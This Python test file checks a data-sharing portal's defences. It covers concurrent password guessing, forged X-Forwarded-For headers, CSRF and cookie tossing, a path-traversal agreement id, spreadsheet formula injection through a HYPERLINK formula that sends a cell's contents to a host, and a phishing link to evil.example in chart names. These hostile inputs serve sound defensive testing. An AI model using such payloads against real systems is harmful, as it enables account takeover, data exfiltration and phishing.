"""A second attack on the portal, the CLI's pull and the audit log, against connectors running as processes on
loopback (issue 12): guesses sent all at once, forged proxy headers, refusals that left no trace, error pages in
the API's shape, and a pull into a place that cannot take it."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest

from sangsaeng.launch import Node, running

pytestmark = [pytest.mark.anyio, pytest.mark.processes, pytest.mark.xdist_group("processes")]
PASSWORD = "correct horse battery"


@contextmanager
def portal(root: Path, **settings: object) -> Iterator[Node]:
    """One connector process (``add_users`` gives it a steward ``kim`` and a viewer ``lee``)."""
    with running(root, ["supplier"], **settings) as nodes:
        node = nodes["supplier"]
        yield node


async def add_users(state_url: str) -> None:
    """As `sangsaeng user add` does, without two more interpreters starting."""
    from datetime import UTC, datetime

    from sangsaeng.portal import auth
    from sangsaeng.store.sql import SqlStore

    store = SqlStore(state_url)
    try:
        for name, role in (("kim", "steward"), ("lee", "viewer")):
            await auth.add_user(store, name, PASSWORD, role, datetime.now(UTC))
    finally:
        await store.close()


async def sign_in(
    client: httpx.AsyncClient, name: str, password: str, headers: dict[str, str] | None = None
) -> httpx.Response:
    page = await client.get("/portal/login")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert token is not None, page.text
    return await client.post(
        "/portal/login",
        data={"csrf": token.group(1), "name": name, "password": password},
        headers={"accept-language": "en", **(headers or {})},
    )


def log_of(node: Node, kind: str) -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = node.client.get("/audit/entries", limit=1000)
    return [e for e in entries if e.get("kind") == kind]


def log_is_valid(node: Node) -> None:
    verified = node.client.post("/audit/verify")
    assert verified["valid"], verified


# ---- sign-in --------------------------------------------------------------------------------------------------
async def test_guesses_sent_all_at_once_get_no_more_tries_than_guesses_sent_one_by_one(tmp_path: Path) -> None:
    """Each sign-in read the count, spent ~50 ms on argon2, then wrote its failure: 30 guesses at once all read
    "no failures yet" and all had their password checked (the limit was 5), and none recorded the lock."""
    with portal(tmp_path, portal_login_account_failures=5, portal_login_address_failures=1000) as node:
        await add_users(node.init.settings.state_url)
        statuses: list[int] = []

        async def guess(i: int) -> None:
            async with httpx.AsyncClient(base_url=node.process.url, timeout=60) as client:
                statuses.append((await sign_in(client, "kim", f"wrong guess {i}")).status_code)

        async with anyio.create_task_group() as group:
            for i in range(30):
                group.start_soon(guess, i)
        checked = statuses.count(400)  # a password was compared and found wrong
        assert checked <= 5, sorted(statuses)
        assert set(statuses) <= {400, 403}, statuses
        async with httpx.AsyncClient(base_url=node.process.url) as client:
            assert (await sign_in(client, "kim", PASSWORD)).status_code == 403  # locked, the right one too
        assert log_of(node, "portal.account.locked"), "the lock is not in the audit log"
        log_is_valid(node)


async def test_a_forged_forwarded_for_header_does_not_make_a_new_address(tmp_path: Path) -> None:
    """`sangsaeng serve` let uvicorn believe X-Forwarded-For from 127.0.0.1 by default: anyone reaching it from
    this host (an SSH tunnel, a proxy that passes the header on as the browser sent it) chose their own address,
    guessed without end past the address's limit, and could have the company's own address throttled."""
    with portal(tmp_path, portal_login_address_failures=5, portal_login_account_failures=1000) as node:
        await add_users(node.init.settings.state_url)
        statuses = []
        async with httpx.AsyncClient(base_url=node.process.url) as client:
            for i in range(8):
                forged = {"x-forwarded-for": f"198.51.100.{i}"}
                statuses.append((await sign_in(client, f"guess{i}", "wrong guess", forged)).status_code)
        assert statuses[:4] == [400] * 4 and set(statuses[4:]) == {429}, statuses
        assert log_of(node, "portal.address.throttled")[0]["address"] == "127.0.0.1"


async def test_a_proxy_named_in_the_settings_is_believed(tmp_path: Path) -> None:
    """The other side of the rule above: behind a proxy the operator names, each browser has its own address."""
    with portal(tmp_path, forwarded_allow_ips="127.0.0.1", portal_login_address_failures=3) as node:
        await add_users(node.init.settings.state_url)
        async with httpx.AsyncClient(base_url=node.process.url) as client:
            for i in range(6):
                forwarded = {"x-forwarded-for": f"198.51.100.{i}"}
                assert (await sign_in(client, f"guess{i}", "wrong guess", forwarded)).status_code == 400


# ---- what a signed-in person and a lost browser see -----------------------------------------------------------
@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Node]:
    with portal(tmp_path_factory.mktemp("shared")) as node:
        anyio.run(add_users, node.init.settings.state_url)
        yield node


async def signed_in(node: Node, name: str) -> tuple[httpx.AsyncClient, str]:
    """A browser signed in as ``name``, and its session's CSRF token (from the sign-out form of every page)."""
    client = httpx.AsyncClient(base_url=node.process.url)
    assert (await sign_in(client, name, PASSWORD)).status_code == 303
    page = await client.get("/portal/")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert token is not None, page.text
    return client, token.group(1)


def wait_for_log(node: Node, kind: str, count: int) -> list[dict[str, Any]]:
    """The log is written milliseconds after a refusal is answered: poll with a deadline."""
    until = time.monotonic() + 10
    while True:
        found = log_of(node, kind)
        if len(found) >= count or time.monotonic() > until:
            return found
        time.sleep(0.05)


async def test_a_viewer_trying_to_publish_and_a_forged_form_are_in_the_audit_log(shared: Node) -> None:
    """Refusals of a signed-in person (a viewer publishing, a form without the session's token) were answered
    403 and left no trace in the tamper-evident log."""
    viewer, token = await signed_in(shared, "lee")
    steward, _ = await signed_in(shared, "kim")
    refused = await viewer.post("/portal/offer/some-dataset", data={"csrf": token, "template": "open"})
    assert refused.status_code == 403 and "text/html" in refused.headers["content-type"]
    forged = await steward.post("/portal/audit/verify", data={"csrf": "forged-by-another-site"})
    assert forged.status_code == 403
    await viewer.aclose()
    await steward.aclose()
    entries = wait_for_log(shared, "portal.refused", 2)
    assert {(e["user"], e["reason"]) for e in entries} >= {("lee", "role"), ("kim", "csrf")}, entries
    log_is_valid(shared)


async def test_a_lost_browser_gets_a_page_in_its_language_not_the_apis_json(shared: Node) -> None:
    """/portal answers pages: an unknown address and a GET of the sign-out form's address were JSON."""
    async with httpx.AsyncClient(base_url=shared.process.url) as client:
        for path, status, words in (
            ("/portal/nowhere", 404, "찾을 수 없음"),
            ("/portal/logout", 405, "입력에 문제가 있습니다"),
            ("/portal/audit/evidence", 303, ""),  # signed out: the login page first, as for any page
        ):
            answer = await client.get(path, headers={"accept-language": "ko"})
            assert answer.status_code == status, (path, answer.text)
            if words:
                assert "text/html" in answer.headers["content-type"] and words in answer.text, path
                assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        # Refused by the request limits, outside every route: the same headers as any page.
        big = await client.post(
            "/portal/login",
            content=b"name=" + b"x" * (5 << 20),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert big.status_code == 413
        assert big.headers["x-frame-options"] == "DENY" and big.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in big.headers["content-security-policy"]
        api = await client.get("/api/nowhere")
        assert api.status_code == 404 and api.json()["error"]["code"] == "not-found"
    viewer, _ = await signed_in(shared, "lee")
    missing = await viewer.get("/portal/audit/evidence", headers={"accept-language": "en"})  # no agreement=
    await viewer.aclose()
    assert missing.status_code == 400 and "Something is wrong with the input" in missing.text


async def test_the_language_cookie_is_kept_to_the_portal_like_the_others(shared: Node) -> None:
    async with httpx.AsyncClient(base_url=shared.process.url) as client:
        answer = await client.get("/portal/lang/en", headers={"referer": "https://evil.example/"})
        assert answer.status_code == 303 and answer.headers["location"] == "/portal/"
        cookie, legacy = [c for c in answer.headers.get_list("set-cookie") if c.startswith("lang=")]
        flags = {f.strip().lower() for f in cookie.split(";")[1:]}
        assert {"httponly", "samesite=lax", "path=/portal"} <= flags, cookie
        # one set before with Path=/ goes: a browser holding both sends it last, and the last one read wins
        assert "path=/;" in legacy.lower() and "max-age=0" in legacy.lower(), legacy


# ---- the CLI's pull into a place that cannot take it ---------------------------------------------------------
@pytest.fixture(scope="module")
def pair(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Node, Node, str]]:
    """A supplier with 200 inspections (about 30 kB as CSV) and an OEM, as processes."""
    import pyarrow.csv as pacsv

    from sangsaeng.demo.data import inspection_table
    from tests.processes import two_processes

    root = tmp_path_factory.mktemp("pull")
    with two_processes(root / "nodes") as (supplier, oem, _):
        source = root / "inspections.csv"
        pacsv.write_csv(inspection_table(200), source)
        yield supplier, oem, supplier.client.add_dataset(source, "inspections")["id"]


def agreed(pair: tuple[Node, Node, str], uses: int | None = None) -> str:
    from tests.test_processes import agree, policy

    supplier, oem, dataset_id = pair
    terms = policy(oem.id)
    if uses is not None:
        terms["permission"][0]["constraint"].append({"leftOperand": "count", "operator": "lteq", "rightOperand": uses})
    agreement: str = agree(supplier, oem, dataset_id, supplier.client.create_offer(dataset_id, terms)["id"])[
        "agreementId"
    ]
    return agreement


def pull(oem: Node, agreement: str, out: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "sangsaeng", "transfer", agreement, "--out", str(out)]
    command += ["--data-dir", str(oem.init.settings.data_dir)]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"})


def test_a_pull_into_a_place_that_cannot_take_it_is_refused_before_the_agreement_is_used(
    pair: tuple[Node, Node, str], tmp_path: Path
) -> None:
    """`--out` naming a folder, or a file in a folder that does not exist, ended in a traceback after the data
    had been pulled: under terms that allow one pull, the one pull was spent on nothing."""
    supplier, oem, _ = pair
    agreement = agreed(pair, uses=1)
    folder = tmp_path / "downloads"
    folder.mkdir()
    for out, says in ((folder, "is a folder"), (tmp_path / "missing" / "x.csv", "does not exist")):
        done = pull(oem, agreement, out)
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert says in " ".join(done.stderr.split()), done.stderr
    assert list(folder.iterdir()) == [] and not (tmp_path / "missing").exists()
    assert supplier.client.get(f"/agreements/{agreement}")["uses"] == 0
    done = pull(oem, agreement, folder / "inspections.csv")  # the one pull the terms allow is still there
    assert done.returncode == 0, done.stderr
    assert (folder / "inspections.csv").read_text().count("\n") == 201


def test_a_full_disk_ends_the_pull_in_a_sentence_and_leaves_nothing(
    pair: tuple[Node, Node, str], tmp_path: Path
) -> None:
    """A disk that fills up mid-pull ended in a traceback (the hidden partial file was removed, but the person
    read a stack of frames, and the transfer stayed open)."""
    _, oem, _ = pair
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("a small disk needs mount (root)")
    try:
        agreement = agreed(pair)
        done = pull(oem, agreement, disk / "inspections.csv")
        said = " ".join(done.stderr.split())
        assert done.returncode == 1 and "Traceback" not in said, said
        assert said.startswith(f"The data could not be written to {disk / 'inspections.csv'}: No space left"), said
        assert list(disk.iterdir()) == []
        transfers = oem.client.get("/transfers", limit=1000)
        assert [t["state"] for t in transfers if t.get("agreementId") == agreement] == ["TERMINATED"]
    finally:
        subprocess.run(["umount", str(disk)], check=True)


# ---- what a partner chose, on our pages -----------------------------------------------------------------------
async def test_an_agreement_id_a_provider_chose_cannot_point_our_buttons_at_another_page(tmp_path: Path) -> None:
    """The consumer keeps the agreement's @id as the provider wrote it. In the "get data" form's address,
    "../agreements/X/terminate" made the browser post (with the session's CSRF token) to another of our pages."""
    from datetime import UTC, datetime
    from urllib.parse import urljoin, urlsplit

    from sangsaeng.portal import auth
    from sangsaeng.store.records import Agreement
    from tests.helpers import dataspace

    async with dataspace(tmp_path, ["oem"]) as space:
        oem = space.parties["oem"]
        now = datetime.now(UTC)
        await auth.add_user(oem.connector.store, "kim", PASSWORD, "steward", now)
        hostile = "../agreements/urn:uuid:theirs/terminate"
        async with oem.connector.store.begin() as tx:
            await tx.agreements.add(
                Agreement(hostile, "urn:uuid:n", "urn:uuid:d", "urn:sangsaeng:participant:evil", oem.id, {}, now)
            )
        transport = httpx.ASGITransport(app=oem.app, client=("127.0.0.1", 50000))
        async with httpx.AsyncClient(transport=transport, base_url=oem.settings.public_url) as client:
            assert (await sign_in(client, "kim", PASSWORD)).status_code == 303
            page = await client.get("/portal/data")
            audit = await client.get("/portal/audit")
            (evidence,) = re.findall(r'href="([^"]*evidence[^"]*)"', audit.text)
            # the evidence link went to /api, which a browser cannot open (no API key): 401 in JSON
            followed = await client.get(evidence.replace("&amp;", "&"))
            assert followed.status_code in (200, 404) and evidence.startswith("/portal/audit/evidence?"), evidence
        (action,) = [a for a in re.findall(r'action="([^"]+)"', page.text) if a.startswith("/portal/data/")]
        resolved = urlsplit(urljoin(f"{oem.settings.public_url}/portal/data", action.replace("&amp;", "&"))).path
        assert resolved.startswith("/portal/data/") and "/" not in resolved.removeprefix("/portal/data/"), resolved


async def test_a_partners_cell_that_looks_like_a_formula_stays_text_in_the_excel_download(tmp_path: Path) -> None:
    """openpyxl writes a string that begins with "=" as a formula: a provider's cell '=HYPERLINK(…)' or
    '=WEBSERVICE(…)' became a live formula in the Excel file our portal handed the person."""
    import io

    import openpyxl

    from sangsaeng.portal import auth
    from tests.helpers import dataspace, negotiate, offer_policy, publish, start_transfer

    formula = '=HYPERLINK("http://127.0.0.1:9/?"&A2,"open")'
    async with dataspace(tmp_path, ["supplier", "oem"]) as space:
        supplier, oem = space.parties["supplier"], space.parties["oem"]
        csv_text = f'lot_no,"=1+1"\nL1,"{formula.replace(chr(34), chr(34) * 2)}"\nL2,=SUM(1;2)\n'
        dataset_id, offer_id = await publish(supplier, csv_text, offer_policy(oem.id))
        agreement = await negotiate(oem, supplier, dataset_id, offer_id)
        transfer = await start_transfer(oem, agreement["agreementId"])
        assert (await oem.api.post(f"/api/received/{agreement['agreementId']}/refresh")).status_code == 200
        await auth.add_user(oem.connector.store, "kim", PASSWORD, "viewer", oem.connector.now())
        transport = httpx.ASGITransport(app=oem.app, client=("127.0.0.1", 50000))
        async with httpx.AsyncClient(transport=transport, base_url=oem.settings.public_url) as client:
            assert (await sign_in(client, "kim", PASSWORD)).status_code == 303
            got = await client.get(
                f"/portal/transfers/{transfer['id']}/download", params={"format": "xlsx"}, follow_redirects=True
            )
        assert got.status_code == 200, got.text
        sheet = openpyxl.load_workbook(io.BytesIO(got.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        # Text cells, and formula-leading text carries OWASP's quote as in every export (see transfer/exports.py).
        assert [c.value for c in cells] == ["lot_no", "'=1+1", "L1", "'" + formula, "L2", "'=SUM(1;2)"]
        assert {c.data_type for c in cells} == {"s"}, [(c.value, c.data_type) for c in cells]


async def test_a_partners_column_name_is_no_link_in_our_chart(tmp_path: Path) -> None:
    """plotly.js reads <a href>, <b>, <span style> in trace names: a provider's column named
    '<a href="https://…">sign in again</a>' was a working link in the legend of our transfer page's chart."""
    import json

    from sangsaeng.portal import auth
    from tests.helpers import dataspace, negotiate, offer_policy, publish, start_transfer

    name = '<a href="https://evil.example/login">Sign in again</a> & more'
    async with dataspace(tmp_path, ["supplier", "oem"]) as space:
        supplier, oem = space.parties["supplier"], space.parties["oem"]
        quoted = name.replace('"', '""')
        csv_text = f'at,"{quoted}"\n2026-01-01T00:00:00Z,1.5\n2026-01-02T00:00:00Z,2.5\n'
        dataset_id, offer_id = await publish(supplier, csv_text, offer_policy(oem.id))
        agreement = await negotiate(oem, supplier, dataset_id, offer_id)
        transfer = await start_transfer(oem, agreement["agreementId"])
        assert (await oem.api.post(f"/api/received/{agreement['agreementId']}/refresh")).status_code == 200
        await auth.add_user(oem.connector.store, "kim", PASSWORD, "viewer", oem.connector.now())
        transport = httpx.ASGITransport(app=oem.app, client=("127.0.0.1", 50000))
        async with httpx.AsyncClient(transport=transport, base_url=oem.settings.public_url) as client:
            assert (await sign_in(client, "kim", PASSWORD)).status_code == 303
            page = await client.get(f"/portal/transfers/{transfer['id']}", follow_redirects=True)
        block = re.search(r'<script id="chart-data" type="application/json">(.*?)</script>', page.text, re.S)
        assert block is not None, page.text
        (trace,) = json.loads(block.group(1))["data"]
        assert trace["name"] == name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


async def test_a_page_on_another_port_cannot_sign_the_browser_in_to_its_own_account(shared: Node) -> None:
    """Login CSRF by cookie tossing: cookies ignore ports, so a page on another port of this host can set our
    CSRF cookie to a value it knows and post the matching form with its own name and password; the victim's
    browser was then signed in to the attacker's account (and what the victim uploads goes there). The browser
    says where the post came from (Sec-Fetch-Site), and only our own pages may post."""
    async with httpx.AsyncClient(base_url=shared.process.url) as client:
        tossed = "A" * 43  # what the attacker's page set as sangsaeng_csrf for this host
        client.cookies.set("sangsaeng_csrf", tossed, path="/portal")
        form = {"csrf": tossed, "name": "kim", "password": PASSWORD}
        for site, status in (("same-site", 403), ("cross-site", 403), ("same-origin", 303)):
            answer = await client.post("/portal/login", data=form, headers={"sec-fetch-site": site})
            assert answer.status_code == status, (site, answer.status_code)


async def test_the_addresses_of_one_ipv6_subscriber_share_one_limit(tmp_path: Path) -> None:
    """An IPv6 subscriber gets a /64 (2^64 addresses): counted address by address, it never reached the limit."""
    with portal(tmp_path, forwarded_allow_ips="127.0.0.1", portal_login_address_failures=3) as node:
        await add_users(node.init.settings.state_url)
        statuses = []
        async with httpx.AsyncClient(base_url=node.process.url) as client:
            for i in range(5):
                forwarded = {"x-forwarded-for": f"2001:db8:1:2::{i + 1:x}"}
                statuses.append((await sign_in(client, f"guess{i}", "wrong guess", forwarded)).status_code)
            other = await sign_in(client, "guess", "wrong guess", {"x-forwarded-for": "2001:db8:1:3::1"})
        assert statuses == [400, 400, 429, 429, 429] and other.status_code == 400, statuses
        assert log_of(node, "portal.address.throttled")[0]["address"] == "2001:db8:1:2::/64"
